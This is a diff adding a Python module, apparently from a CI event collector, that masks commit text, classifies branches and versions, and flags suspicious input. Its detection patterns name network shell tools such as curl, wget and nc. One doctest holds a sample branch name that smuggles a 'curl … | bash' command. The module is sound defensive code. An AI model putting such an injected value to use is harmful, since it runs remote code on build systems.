@@ -1,0 +1,121 @@
+"""Shapes: text reduced to what can be learned from it, such as a masked message or the class of a branch."""
+
+from __future__ import annotations
+
+import re
+from functools import lru_cache
+from urllib.parse import urlsplit
+
+from collector.masking import mask_text
+
+MAX_SHAPE = 120
+_VARYING = re.compile(
+    r"[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}"
+    r"|\d{4}-\d\d-\d\d[t ]\d\d:\d\d:\d\d[0-9.]*(?:z|[+-]\d\d:?\d\d)?"
+    r"|\b(?=[a-f]{0,63}\d)[0-9a-f]{7,64}\b|\d+(?:\.\d+)*"
+)
+_SPACE = re.compile(r"\s+")
+_METACHARACTERS = re.compile(r"[`$;|&<>\\]|\$\(|\{\{|\x1b|\x00")
+_SHELL = re.compile(r"\$\(|\$\{|`[^`]*`|\{\{|[;|&]{1,2} *(?:curl|wget|bash|sh|python|nc|eval|cat|echo)\b|\x1b|\x00")
+_ENCODED = re.compile(
+    r"[A-Za-z0-9+/=_-]{48,}|(?:%[0-9A-Fa-f]{2}){4,}|(?:\\x[0-9a-fA-F]{2}){3,}|(?:\\u[0-9a-fA-F]{4}){3,}"
+)
+_HIDDEN = re.compile("[\u200b-\u200f\u202a-\u202e\u2060-\u2064\u2066-\u2069\ufeff\U000e0000-\U000e007f]")
+_SKIP_CI = re.compile(
+    r"(?i)\[(?:skip ci|ci skip|no ci|skip actions|actions skip)\]|\*\*\*no_ci\*\*\*|skip-checks: ?true"
+)
+_MAINS = frozenset({"main", "master", "trunk", "mainline", "default"})
+_COMMON_BRANCHES = frozenset(
+    """develop development dev staging stage release production prod next stable test qa gh-pages hotfix beta alpha
+    canary nightly integration""".split()
+)
+
+
+def shape_of(text: str, limit: int = MAX_SHAPE) -> str:
+    """Return the first line in lower case with secrets, numbers, hashes, ids and times masked.
+
+    >>> shape_of("Bump lodash from 4.17.20 to 4.17.21 (#812)")
+    'bump lodash from # to # (##)'
+    """
+    line = text[: limit * 4].lstrip().split("\n", 1)[0]
+    return _SPACE.sub(" ", _VARYING.sub("#", mask_text(line).lower()))[:limit].strip()
+
+
+def oddities_of(text: str, long: int) -> list[str]:
+    """Return what is odd about text an outsider may have written; `long` is the length that is odd in itself.
+
+    >>> oddities_of('feature/a"; curl http://x.example | bash', 100)
+    ['shell metacharacters']
+    """
+    head = text[:20000]
+    odd = []
+    if _SHELL.search(head):
+        odd.append("shell metacharacters")
+    if _ENCODED.search(head):
+        odd.append("encoded run")
+    if _HIDDEN.search(head):
+        odd.append("invisible characters")
+    if _SKIP_CI.search(head):
+        odd.append("skips CI")
+    if len(text) > long:
+        odd.append("very long")
+    return odd
+
+
+def name_oddities_of(name: str) -> list[str]:
+    """Return what is odd about a branch, tag or file name, where any shell character is odd."""
+    odd = oddities_of(name, 80)
+    if not odd and _METACHARACTERS.search(name):
+        odd.append("shell metacharacters")
+    return odd
+
+
+@lru_cache(maxsize=16384)
+def branch_class_of(branch: str, default_branch: str = "") -> str:
+    """Return default, tag, a masked prefix before the first `/`, a well-known name, or other.
+
+    Where the default branch is not told, main, master and trunk count as it.
+
+    >>> [branch_class_of(b, "main") for b in ("refs/heads/main", "refs/tags/v1", "renovate/x", "bob-71/fix", "master")]
+    ['default', 'tag', 'renovate', 'bob-#', 'other']
+    """
+    if branch.startswith("refs/tags/"):
+        return "tag"
+    name = short_branch(branch)
+    if name == default_branch or (not default_branch and name in _MAINS):
+        return "default"
+    if branch.startswith("refs/pull/"):
+        return "pull"
+    if "/" in name:
+        return _VARYING.sub("#", name.split("/", 1)[0].lower())[:40]
+    return name if name in _COMMON_BRANCHES else "other"
+
+
+def short_branch(ref: str) -> str:
+    """Return a ref without `refs/heads/` or `refs/tags/`."""
+    return ref.removeprefix("refs/heads/").removeprefix("refs/tags/")
+
+
+@lru_cache(maxsize=16384)
+def version_shape_of(version: str) -> str:
+    """Return how a version is written: digits by count, words kept.
+
+    >>> [version_shape_of(v) for v in ("v1.20.3", "1.0.0-rc.1", "99.99.99")]
+    ['vN.NN.N', 'N.N.N-rc.N', 'NN.NN.NN']
+    """
+    return re.sub(r"\d+", lambda m: "N" * min(len(m[0]), 4), version[:60])
+
+
+@lru_cache(maxsize=16384)
+def host_of(url: str) -> str:
+    """Return the host and unusual port of a URL; empty where there is none.
+
+    >>> host_of("https://Hooks.example:8443/a?b=c")
+    'hooks.example:8443'
+    """
+    try:
+        parts = urlsplit(url if "://" in url else f"//{url}")
+        host, port = parts.hostname or "", parts.port
+    except ValueError:
+        return ""
+    return f"{host}:{port}" if host and port not in {None, 80, 443} else host
